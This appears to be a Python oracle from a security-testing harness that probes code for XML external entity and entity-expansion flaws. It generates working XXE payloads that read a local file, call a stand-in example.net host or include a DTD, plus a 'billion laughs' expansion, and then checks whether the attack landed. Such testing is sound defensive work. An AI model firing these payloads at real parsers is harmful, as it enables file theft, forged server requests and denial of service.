"""Decides CWE-611 and CWE-776 in Python: does reading an XML document follow entities that it defines?

Exploited: the random content of a file that an external entity names came back, or was asked for over the network
(611); an entity was expanded to a thousand times its size (776). Exercised: the content of the benign document came
back, or the number of its elements did. Documents are built from the names of elements and attributes that the source
mentions. `lxml` and `defusedxml` are the real libraries where they are installed; otherwise code that needs them is
inert.
"""

import re

from seccoder.oracles.executed.attempts import (
    APP,
    Attempt,
    Exploit,
    Judgement,
    Run,
    Tokens,
    Wanted,
    attacks_of,
    benign_of,
)
from seccoder.oracles.executed.surface import Surface

NAME = "xml_entities"
CWES = ("CWE-611", "CWE-776", "CWE-827")
_EXTERNAL: tuple[str, ...] = (
    "CWE-611",
    "CWE-827",
    "CWE-776",
)  # a parser that follows external entities expands all entities; the reverse is not so
HINT = r"\bxml|lxml|etree|expat|\bsax\b|minidom"
_COPIES = 12


def want(surface: Surface, tokens: Tokens) -> Wanted:
    """Want a document of the wanted shape, and the same with entities in place of its text."""
    names = [n for text in surface.literals for n in re.findall(r"[A-Za-z_][\w.-]*", text) if _is_path(text)]
    names = list(dict.fromkeys(n for n in names if len(n) > 1))[:12]
    files = {f"/box/{tokens.mark}.txt": tokens.secret.encode(), f"/box/{tokens.mark}.dtd": _remote(tokens).encode()}
    shapes = [_flat, _nested, _listed]
    benign = ["<?xml version='1.0'?>" + shape(names, tokens.inside) for shape in shapes]
    outer = f'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///box/{tokens.mark}.txt">]>'
    web = f'<!DOCTYPE r [<!ENTITY e SYSTEM "http://{tokens.mark}.example.net/">]>'
    dtd = f'<!DOCTYPE r [<!ENTITY % d SYSTEM "file:///box/{tokens.mark}.dtd"> %d;]>'
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * _COPIES}">' for n in range(1, 4))
    laugh = f'<!DOCTYPE r [<!ENTITY e0 "{tokens.mark}">{levels}<!ENTITY e "&e3;">]>'
    attacks: list[dict[str, object]] = [
        {"value": head + shape(names, "&e;")} for head in (outer, web, dtd, laugh) for shape in shapes
    ]
    wanted = Wanted(benign=benign, files=files, network=True, attacks=attacks)
    for name in (
        text for text in surface.literals if text.endswith((".xml", ".svg", ".rss", ".xhtml")) and " " not in text
    ):
        path = name if name.startswith("/") else f"{APP}/{name}"
        wanted.benign_files[path] = benign[1].encode()
        attacks += [{"value": "", "files": {path: (head + _nested(names, "&e;")).encode()}} for head in (outer, laugh)]
    path = f"{APP}/{tokens.word}.xml"
    wanted.benign_files[path] = benign[1].encode()
    wanted.benign.append(path)
    for number, head in enumerate((outer, laugh)):
        evil = f"{APP}/{tokens.mark}{number}.xml"
        wanted.files[evil] = (head + _nested(names, "&e;")).encode()
        attacks.append({"value": evil})
    return wanted


def _is_path(text: str) -> bool:
    return re.fullmatch(r"[\w./@\[\]='*:-]+", text) is not None and len(text) < 60


def _remote(tokens: Tokens) -> str:
    return f'<!ENTITY e SYSTEM "file:///box/{tokens.mark}.txt">'


def _flat(names: list[str], text: str) -> str:
    return "<r>" + "".join(f"<{name}>{text}</{name}>" for name in names) + f"<text>{text}</text></r>"


def _nested(names: list[str], text: str) -> str:
    """Return a document whose elements hold all others, two levels deep, and have all of them as attributes."""
    attributes = "".join(f' {name}="7"' for name in names)
    leaves = "".join(f"<{name}{attributes}>{text}</{name}>" for name in names)
    inner = "".join(f"<{name}{attributes}>{text}{leaves}</{name}>" for name in names)
    root = names[0] if names else "r"
    return f"<{root}{attributes}>{text}{inner}</{root}>"


def _listed(names: list[str], text: str) -> str:
    inside = "".join(f"<{name}>{text}</{name}>" for name in names[1:])
    return "<r>" + f"<{names[0] if names else 'item'}>{text}{inside}</{names[0] if names else 'item'}>" * 2 + "</r>"


def judge(run: Run, tokens: Tokens) -> Judgement:
    """Look for the file's content, and for how often the entity came back."""
    judgement = Judgement()
    inside = tokens.inside.encode()
    for attempt in benign_of(run):
        holds = any(tokens.inside in value for value in attempt.values)
        echoed = any(value.encode() in attempt.said for value in attempt.values if "<" in value)
        came = inside in attempt.said or inside in _stored(attempt)
        if came and not echoed and not attempt.error and (holds or not attempt.type or attempt.status < 400):
            judgement.reached.update(CWES)
    for attempt in attacks_of(run, NAME):
        said = attempt.said + _stored(attempt)
        mark = tokens.mark.encode()
        if tokens.secret.encode() in said:
            found = (_EXTERNAL, "an external entity brought a file")
        elif any(tokens.mark in call.text("host") for call in attempt.called("request")):
            found = (_EXTERNAL, "an external entity asked for an address")
        elif any(event.kind == "open" and f"{tokens.mark}.txt" in event.arguments for event in attempt.events):
            found = (_EXTERNAL, "an external entity opened a file")
        elif said.count(mark) >= 900:
            found = (("CWE-776",), "an entity was expanded a thousandfold")
        else:
            continue
        judgement.exploits.append(Exploit(found[0], attempt.entry, attempt.payload, attempt.line, found[1]))
    return judgement


def _stored(attempt: Attempt) -> bytes:
    return " ".join(text + str(values) for text, values, *_ in attempt.sql).encode()
